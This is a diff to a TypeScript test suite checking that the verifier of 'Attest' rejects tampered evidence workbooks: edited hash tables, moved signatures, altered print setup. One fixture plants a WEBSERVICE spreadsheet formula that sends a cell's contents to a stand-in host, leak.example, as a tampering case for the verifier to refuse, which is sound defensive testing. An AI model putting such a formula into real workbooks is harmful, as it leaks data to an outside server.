@@ -148,7 +148,7 @@ describe('verify refuses what Attest never writes', () => {
       replaceIn(
         parts,
         sheetPart(parts, 'Evidence'),
-        /<c r="B4" t="str"><v>acme.example.test<\/v><\/c>/,
+        /<c r="B4"(?: s="\d+")? t="str"><v>acme.example.test<\/v><\/c>/,
         '<c r="B4" t="str"><f>WEBSERVICE("https://leak.example/?d="&amp;B6)</f><v>acme.example.test</v></c>',
       );
     });
@@ -216,7 +216,7 @@ describe('verify refuses what Attest never writes', () => {
   it('the Rows column of the hash table edited', async () => {
     const file = await crafted((parts) => {
       const evidence = sheetPart(parts, 'Evidence');
-      const row = /<row r="(\d+)"[^>]*><c r="A\d+" t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
+      const row = /<row r="(\d+)"[^>]*><c r="A\d+"(?: s="\d+")? t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
       replaceIn(parts, evidence, new RegExp(`<c r="C${row[1]}"><v>14</v></c>`), `<c r="C${row[1]}"><v>1400</v></c>`);
     });
     const result = await expectAltered(file, "the hash table says 'Scopes' has 1400 rows; it has 14");
@@ -235,7 +235,7 @@ describe('verify refuses what Attest never writes', () => {
       );
       const style = Number(xfs[1]);
       const evidence = sheetPart(parts, 'Evidence');
-      const row = /<row r="(\d+)"[^>]*><c r="A\d+" t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
+      const row = /<row r="(\d+)"[^>]*><c r="A\d+"(?: s="\d+")? t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
       replaceIn(parts, evidence, new RegExp(`<c r="C${row[1]}">`), `<c r="C${row[1]}" s="${style}">`);
       replaceIn(parts, sheetPart(parts, 'MCP toolsets'), /<c r="([A-Z]+2)"(?: s="\d+")?><v>/, `<c r="$1" s="${style}"><v>`);
     });
@@ -385,7 +385,7 @@ describe('signatures', () => {
     const stolen = Buffer.from(
       (await readParts(base))
         .get(sheetPart(await readParts(base), 'Evidence'))!
-        .match(/Signature \(Ed25519\)<\/v><\/c><c r="B\d+" t="str"><v>([^<]+)</)![1]!,
+        .match(/Signature \(Ed25519\)<\/v><\/c><c r="B\d+"(?: s="\d+")? t="str"><v>([^<]+)</)![1]!,
       'base64',
     );
     expect(original.json.signature.status).toBe('valid');
@@ -520,13 +520,14 @@ describe('hostile files never crash verify', () => {
 });
 
 describe('the page setup of a printable workbook (attest-canonical/3)', () => {
-  it('every sheet prints landscape, one page wide, row 1 repeated, the footer the Evidence sheet names: intact as exported', async () => {
+  it('every sheet prints landscape at a readable scale, row 1 repeated, the footer the Evidence sheet names: intact as exported', async () => {
     const parts = await readParts(base);
     expect(String(parts.get('xl/workbook.xml'))).toContain(
       `<definedName name="_xlnm.Print_Titles" localSheetId="2">&apos;Campaigns&apos;!$1:$1</definedName>`,
     );
     const scopes = String(parts.get(sheetPart(parts, 'Scopes')));
-    expect(scopes).toMatch(/<pageSetup [^>]*orientation="landscape"[^>]*fitToWidth="1" fitToHeight="0"/);
+    expect(scopes).toMatch(/<pageSetup [^>]*orientation="landscape"[^>]*scale="(?:7[5-9]|[89]\d|100)"/);
+    expect(scopes).not.toContain('fitToPage');
     expect(scopes).toMatch(
       /<oddFooter>&amp;LScopes&amp;CEvidence: the whole tenant: data as of [^<]+&amp;RPage &amp;P of &amp;N<\/oddFooter>/,
     );
@@ -551,6 +552,9 @@ describe('the page setup of a printable workbook (attest-canonical/3)', () => {
       ),
     );
     await expectAltered(area, "the workbook has the defined name '_xlnm.Print_Area' (Attest writes only print titles)");
+    // A sheet's print area that leaves rows off the paper (Attest's ends at the sheet's last row, or prints row 1).
+    const fewer = await crafted((p) => replaceIn(p, 'xl/workbook.xml', /(&apos;Scopes&apos;!\$A\$1:\$[A-Z]+\$)\d+/, '$12'));
+    await expectAltered(fewer, "the workbook has the defined name '_xlnm.Print_Area' (Attest writes only print titles)");
   });
 
   it('refuses a footer in a workbook of an earlier form, which had none', async () => {
